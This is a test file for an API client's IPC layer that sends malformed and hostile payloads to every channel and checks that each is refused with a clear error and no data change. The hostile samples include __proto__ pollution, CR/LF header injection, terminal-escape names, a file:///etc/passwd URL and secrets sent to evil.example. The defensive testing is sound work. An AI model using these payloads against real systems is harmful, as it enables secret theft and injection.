/**
 * The hostile-input corpus for IPC: every channel of the contract receives malformed payloads
 * (wrong types, unknown fields, huge strings, deep nesting, `__proto__`, control and bidi
 * characters), and a list of well-formed but hostile requests goes to the handlers. Each answer
 * is a clear error in the user's words (never `internal`, never a stack trace) and the data
 * folder is byte-for-byte the same afterwards.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ErrorInfo, Result } from '../../../shared/errors';
import { channelNames, contract } from '../../../shared/ipc/contract';
import { emptyDraft } from '../../../shared/runner/draft';
import { createMainServices, type MainServices } from '../services';
import { TEST_SCRYPT, hashDir, tempDir } from '../../../testing/vault';
import type { ConfirmationPort } from '../allowed-hosts/confirmation';

const SECRET = 'hostile-corpus-secret-8c1d2e';

function deep(levels: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < levels; i++) value = { id: value, name: value };
  return value;
}

/** Payloads no channel should accept (each is checked against the channel's schema first). */
const MALFORMED: Record<string, unknown> = {
  'a number': 42,
  'a string': 'environments',
  'an array': [1, 2, 3],
  'a boolean': true,
  'unknown fields': { id: 'x', evil: true, __tokenbench: 1 },
  'a __proto__ key': JSON.parse('{"__proto__": {"polluted": true}, "id": "x"}') as unknown,
  'a megabyte id': { id: 'x'.repeat(1_000_000), environmentId: 'x'.repeat(1_000_000), name: 'x'.repeat(1_000_000) },
  'nesting 5,000 deep': deep(5_000),
  'a bidi name': { id: 'x', name: 'prod\u202Exobdnas' },
  'an ESC name': { id: 'x', name: 'Sandbox\u001b]0;pwned\u0007' },
  'wrong types everywhere': { id: 1, environmentId: [], credentialId: {}, name: null, value: 7, secret: 'yes', confirmed: 'true' },
};

let app: MainServices;
let dataDir: string;
let environmentId: string;
let credentialId: string;
const refuseEverything: ConfirmationPort = { confirm: async () => false };

function expectClearError(result: Result<unknown>, what: string): ErrorInfo {
  expect(result.ok, `${what} was accepted`).toBe(false);
  const error = (result as { ok: false; error: ErrorInfo }).error;
  expect(error.code, `${what}: ${error.message}`).not.toBe('internal');
  for (const text of [error.message, error.hint ?? '']) {
    expect(text, what).not.toMatch(/\n\s+at |node:internal|\.ts:\d+/);
    expect(text, what).not.toContain(SECRET);
    expect(text.length, what).toBeLessThan(3000);
  }
  expect(error.message.trim(), what).not.toBe('');
  return error;
}

beforeAll(async () => {
  dataDir = tempDir();
  app = await createMainServices({ dataDir, scryptCost: TEST_SCRYPT, log: () => {}, confirmation: refuseEverything });
  await app.handlers['vault:setup']({ passphrase: 'hostile corpus passphrase' });
  const environment = await app.handlers['environments:create']({ name: 'Shop', production: true });
  environmentId = environment.id;
  await app.handlers['variables:set']({ environmentId, name: 'baseUrl', value: 'http://127.0.0.1:9', secret: false });
  await app.handlers['variables:set']({ environmentId, name: 'apiKey', value: SECRET, secret: true });
  await app.handlers['environments:update']({ id: environmentId, allowedHosts: ['127.0.0.1:9'] });
  credentialId = (
    await app.handlers['credentials:create']({
      name: 'Shop key',
      recipe: { version: 1, kind: 'static', token: '{{apiKey}}', use: { in: 'header', name: 'Authorization', value: 'Bearer {{token}}' } },
      environmentIds: [environmentId],
    })
  ).id;
}, 60_000);

afterAll(async () => {
  await app.dispose();
});

describe('hostile IPC payloads', () => {
  it('refuses malformed payloads on every channel with a clear error, changing nothing', async () => {
    const before = hashDir(dataDir);
    let checked = 0;
    for (const channel of channelNames) {
      for (const [name, payload] of Object.entries(MALFORMED)) {
        if (contract[channel].request.safeParse(payload).success) continue;
        const error = expectClearError(await app.dispatch(channel, payload), `${channel} with ${name}`);
        expect(error.code, `${channel} with ${name}`).toBe('invalid-request');
        checked += 1;
      }
    }
    expect(checked).toBeGreaterThan(channelNames.length * 8);
    expect(hashDir(dataDir)).toBe(before);
  }, 120_000);

  const draft = (overrides: Parameters<typeof emptyDraft>[0]) => ({ draft: emptyDraft({ environmentId, ...overrides }), sendId: 'hostile-send' });
  const recipe = (token: Record<string, unknown>) => ({ version: 1, kind: 'token-request', tokenRequest: { url: 'http://127.0.0.1:9/token', ...token } });
  const WELL_FORMED_BUT_HOSTILE: Array<[string, string, unknown]> = [
    ['an unknown channel', 'vault:dump', {}],
    ['a channel named like a prototype property', '__proto__', {}],
    ['an environment that does not exist', 'environments:rename', { id: 'no-such-environment', name: 'X' }],
    ['a clashing environment name', 'environments:create', { name: 'SHOP' }],
    ['an unconfirmed widening of allowed hosts', 'environments:update', () => ({ id: environmentId, allowedHosts: ['evil.example'] })],
    ['an allowed host "*."', 'environments:update', () => ({ id: environmentId, allowedHosts: ['*.'] })],
    ['an unconfirmed production switch-off', 'environments:update', () => ({ id: environmentId, production: false })],
    ['an unconfirmed clone of production secrets out of production', 'environments:clone', () => ({ id: environmentId, name: 'Leak', includeSecrets: true, production: false })],
    ['a variable of an unknown environment', 'variables:set', () => ({ environmentId: 'nope', name: 'a', value: 'b', secret: false })],
    ['a variable name with a line break', 'variables:set', () => ({ environmentId, name: 'a\nb', value: 'b', secret: false })],
    ['revealing a secret that does not exist', 'secrets:reveal', () => ({ environmentId, name: 'missing' })],
    ['a recipe header name with CR/LF', 'credentials:create', { name: 'X', recipe: recipe({ headers: { 'A\r\nB': 'c' } }) }],
    ['a recipe header value with CR/LF', 'credentials:create', { name: 'X', recipe: recipe({ headers: { A: 'c\r\nInjected: 1' } }) }],
    ['a recipe string of a megabyte', 'credentials:create', { name: 'X', recipe: recipe({ url: `http://127.0.0.1:9/${'x'.repeat(1_000_000)}` }) }],
    ['a recipe use.name with CR/LF', 'credentials:create', { name: 'X', recipe: { version: 1, kind: 'static', token: 'k', use: { in: 'header', name: 'A\r\nB', value: '{{token}}' } } }],
    ['a recipe of a version from the future', 'credentials:create', { name: 'X', recipe: { version: 99, kind: 'static', token: 'k' } }],
    ['a credential for an unknown environment', 'credentials:create', () => ({ name: 'X', recipe: { version: 1, kind: 'static', token: 'k' }, environmentIds: ['nope'] })],
    ['a token for an unknown pair', 'tokens:fetch', () => ({ environmentId: 'nope', credentialId })],
    ['a production token request without confirmation', 'tokens:fetch', () => ({ environmentId, credentialId, renew: true })],
    ['a secret sent to a host of its choice', 'runner:send', () => ({ ...draft({ url: 'http://evil.example/steal', credentialId }), confirmed: true })],
    ['a secret variable sent to a host of its choice', 'runner:send', () => ({ ...draft({ url: 'http://evil.example/?k={{apiKey}}' }), confirmed: true })],
    ['a file: URL', 'runner:send', () => ({ ...draft({ url: 'file:///etc/passwd' }), confirmed: true })],
    ['a javascript: URL', 'runner:send', () => ({ ...draft({ url: 'javascript:alert(1)' }), confirmed: true })],
    ['an unknown variable', 'runner:send', () => ({ ...draft({ url: 'http://127.0.0.1:9/{{nope}}' }), confirmed: true })],
    ['a body page of an unknown response', 'runner:body-page', { bodyId: 'nope', offset: 0, limit: 10 }],
    ['a saved request that does not exist', 'requests:delete', { id: 'nope' }],
    ['a history entry that does not exist', 'history:get', { id: 'nope' }],
    ['a wrong passphrase', 'vault:unlock', { passphrase: 'not the passphrase at all' }],
    ['a second vault set-up', 'vault:setup', { passphrase: 'another long passphrase' }],
  ];

  /** The refusals that matter most must fail for their own reason. */
  const EXPECTED_CODE: Record<string, string> = {
    'an unconfirmed widening of allowed hosts': 'not-confirmed',
    'an unconfirmed production switch-off': 'not-confirmed',
    'an unconfirmed clone of production secrets out of production': 'not-confirmed',
    'a secret sent to a host of its choice': 'host-not-allowed',
    'a secret variable sent to a host of its choice': 'host-not-allowed',
    'a recipe header name with CR/LF': 'invalid-request',
    'a recipe header value with CR/LF': 'invalid-request',
    'a recipe use.name with CR/LF': 'invalid-request',
    'a recipe string of a megabyte': 'invalid-request',
  };

  it.each(WELL_FORMED_BUT_HOSTILE)('answers %s with a clear error, changing nothing', async (what, channel, payload) => {
    const before = hashDir(dataDir);
    const error = expectClearError(await app.dispatch(channel, typeof payload === 'function' ? (payload as () => unknown)() : payload), what);
    if (EXPECTED_CODE[what]) expect(error.code, error.message).toBe(EXPECTED_CODE[what]);
    expect(hashDir(dataDir)).toBe(before);
  }, 60_000);
});
